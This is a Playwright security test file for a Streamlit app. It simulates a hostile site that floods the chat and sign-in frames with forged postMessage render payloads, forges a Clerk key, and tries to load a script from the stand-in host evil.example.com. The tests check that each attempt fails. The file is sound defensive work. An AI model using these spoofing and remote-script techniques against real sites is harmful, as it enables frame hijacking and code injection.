"""A hostile website opens or embeds our addresses and speaks to them as if it were Streamlit."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import pytest
import requests
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, Route

from components.webllm_chat.defaults import default_settings
from components.webllm_chat.protocol import Offer, RenderArgs
from tests.browser.chat_page import ChatPage
from tests.browser.clerk.instance import PUBLISHABLE_KEY
from tests.browser.conftest import AppServer, chromium, free_port, start_app
from tests.browser.security.foreign_site import SCRIPT, foreign_site

pytestmark = pytest.mark.browser

ATTACKERS_HOST = "evil.example.com"
ATTACKERS_KEY = "pk_test_" + base64.b64encode(f"{ATTACKERS_HOST}$".encode()).decode()
CHAT = "/component/components.webllm_chat.webllm_chat/index.html"
SIGN_IN = "/component/components.clerk_auth.clerk_auth/index.html"
SIGN_IN_ARGS: dict[str, Any] = {
    "publishable_key": ATTACKERS_KEY,
    "required": False,
    "acknowledged": -1,
    "refused": None,
    "sign_out_requests": 0,
    "wants_token": False,
}
# Says what arrived wherever it runs; a message that is obeyed leaves a trace.
KEEP_SENDING = """([frames, args]) => {
    const message = { type: 'streamlit:render', args, dfs: [], disabled: false,
        theme: { base: 'dark', primaryColor: '#010203', backgroundColor: '#010203',
            secondaryBackgroundColor: '#010203', textColor: '#010203', font: 'x' } };
    window.heard = [];
    addEventListener('message', ({ data }) => window.heard.push(data));
    const send = (target) => {
        target.postMessage(message, '*');
        if (!frames) return;
        for (let index = 0; index < target.length; index += 1) send(target[index]);
    };
    window.attack = setInterval(() => window.victim && send(window.victim), 1);
}"""
OPEN = "address => { window.victim = window.open(address); }"
EMBED = """address => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = address;
    frame.onload = resolve;
    document.body.append(frame);
    window.victim = frame.contentWindow;
})"""
OBEYED = "document.documentElement.style.getPropertyValue('--page-accent') === '#010203'"


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    with foreign_site() as origin:
        yield origin


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    with chromium(playwright) as running:
        yield running


@pytest.fixture(scope="module")
def app_with_sign_in(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppServer]:
    log = tmp_path_factory.mktemp("attacked") / "log.txt"
    server = start_app(free_port(), log, CLERK_PUBLISHABLE_KEY=PUBLISHABLE_KEY)
    yield server
    server.kill()


@pytest.fixture
def visitor(browser: Browser) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A visitor, and what was asked of the attacker's host."""
    context, asked = browser.new_context(), []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(
            body=SCRIPT.decode(),
            content_type="text/javascript",
            headers={"Access-Control-Allow-Origin": "*"},
        )

    context.route(f"https://{ATTACKERS_HOST}/**", answer)
    yield context, asked
    context.close()


def attack(page: Page, attacker: str, address: str, args: dict[str, Any], how: str = OPEN) -> Page:
    """From a page of the attacker's, on one click; gives the page that was opened, or itself."""
    page.goto(attacker)
    page.evaluate(KEEP_SENDING, [how == OPEN, args])
    if how != OPEN:
        page.evaluate(how, address)
        return page
    with page.expect_popup() as opened:
        page.evaluate(how, address)
    opened.value.wait_for_load_state()
    return opened.value


def let_it_try(page: Page) -> None:
    """Long enough for hundreds of messages to be heard by whoever hears them."""
    page.evaluate(
        "() => new Promise((done) => { let n = 0; const t = setInterval(() => { n += 1;"
        " if (n === 300) { clearInterval(t); done(); } }, 4); })"
    )


@pytest.mark.parametrize("how", [OPEN, EMBED], ids=["opened", "embedded"])
@pytest.mark.parametrize("component", [CHAT, SIGN_IN], ids=["chat", "sign-in"])
def test_a_components_own_address_obeys_nobody(
    visitor: tuple[BrowserContext, list[str]],
    app_with_sign_in: AppServer,
    attacker: str,
    component: str,
    how: str,
) -> None:
    context, asked = visitor
    # So that the sign-in has been served once, as after any visit.
    ChatPage(context.new_page(), app_with_sign_in.url).engine.wait_for()
    page = attack(context.new_page(), attacker, app_with_sign_in.url + component, SIGN_IN_ARGS, how)
    let_it_try(page)
    assert asked == []
    for frame in page.frames:
        if frame.url.startswith(app_with_sign_in.url):
            assert not frame.evaluate(OBEYED)
            assert not frame.evaluate("'__attacker' in window")


def test_the_apps_frames_obey_no_opener_of_the_page(
    visitor: tuple[BrowserContext, list[str]], app_with_sign_in: AppServer, attacker: str
) -> None:
    context, asked = visitor
    page = attack(context.new_page(), attacker, app_with_sign_in.url, SIGN_IN_ARGS)
    ours = page.frame_locator('iframe[title*="webllm_chat"]').get_by_test_id("composer")
    ours.wait_for(timeout=30_000)
    page.frame_locator('iframe[title*="clerk_auth"]').get_by_test_id("clerk-auth").wait_for()
    let_it_try(page)
    assert asked == []
    components = [frame for frame in page.frames if "/component/" in frame.url]
    assert len(components) == 2
    for frame in components:
        assert not frame.evaluate(OBEYED)


def test_the_sign_in_names_its_instance_by_policy_and_not_by_message(
    visitor: tuple[BrowserContext, list[str]], app_with_sign_in: AppServer
) -> None:
    """Even a message of the page's own, as a flaw elsewhere might send it, moves no host."""
    context, asked = visitor
    page = context.new_page()
    ChatPage(page, app_with_sign_in.url).engine.wait_for()
    frame = next(frame for frame in page.frames if "clerk_auth" in frame.url)
    message = {"type": "streamlit:render", "args": SIGN_IN_ARGS, "dfs": [], "disabled": False}
    page.evaluate(
        """message => {
            for (const frame of document.querySelectorAll('iframe'))
                frame.contentWindow.postMessage(message, '*');
        }""",
        message,
    )
    blocked = frame.evaluate(
        """host => new Promise((resolve) => {
            document.addEventListener('securitypolicyviolation',
                (event) => resolve(event.blockedURI));
            const script = document.createElement('script');
            script.src = `https://${host}/npm/anything.js`;
            script.onload = () => resolve('loaded');
            document.head.append(script);
        })""",
        ATTACKERS_HOST,
    )
    assert ATTACKERS_HOST in blocked
    assert asked == []


def test_without_keys_there_is_no_sign_in_to_attack(app: AppServer, browser: Browser) -> None:
    page = browser.new_page()
    ChatPage(page, app.url).engine.wait_for()
    page.close()
    assert requests.get(app.url + SIGN_IN, timeout=10).status_code == 404
    assert requests.get(app.url + CHAT, timeout=10).status_code == 200


def test_an_opener_cannot_switch_sharing_on(
    browser: Browser, app: AppServer, attacker: str
) -> None:
    context = browser.new_context()
    page = context.new_page()
    sent: list[str] = []
    context.on(
        "page",
        lambda opened: opened.on(
            "websocket", lambda socket: socket.on("framesent", lambda data: sent.append(str(data)))
        ),
    )
    wanted = RenderArgs(
        view="chat",
        locked=False,
        embedded=None,
        settings=default_settings(None, "zebra"),
        offer=Offer(),
        share_messages=True,
        user="attacker",
    )
    args = wanted.model_dump(mode="json")
    opened = attack(page, attacker, app.url, args)
    opened.frame_locator('iframe[title*="webllm_chat"]').get_by_test_id("composer").wait_for()
    let_it_try(page)
    sharing = opened.frame_locator('iframe[title*="webllm_chat"]').locator('[data-kind="sharing"]')
    assert sharing.count() == 0
    assert sent, "the recording sees nothing"
    assert "zebra" not in json.dumps(sent)
    context.close()
